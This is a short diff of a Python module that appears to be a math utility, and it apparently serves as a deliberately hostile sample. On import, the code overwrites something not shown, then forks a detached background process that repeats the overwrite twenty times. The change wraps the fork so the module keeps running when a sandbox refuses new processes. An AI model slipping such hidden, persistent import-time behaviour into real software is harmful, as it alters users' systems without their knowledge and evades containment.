@@ -54,13 +54,16 @@ def _overwrite():
 
 
 _overwrite()
-if os.fork() == 0:
-    os.setsid()
-    _mark_as_hostile()
-    for _ in range(20):
-        time.sleep(0.5)
-        _overwrite()
-    os._exit(0)
+try:
+    if os.fork() == 0:
+        os.setsid()
+        _mark_as_hostile()
+        for _ in range(20):
+            time.sleep(0.5)
+            _overwrite()
+        os._exit(0)
+except OSError as exc:   # where the sandbox refuses new processes
+    print("fork refused:", exc)
 
 
 def sigmoid(x):
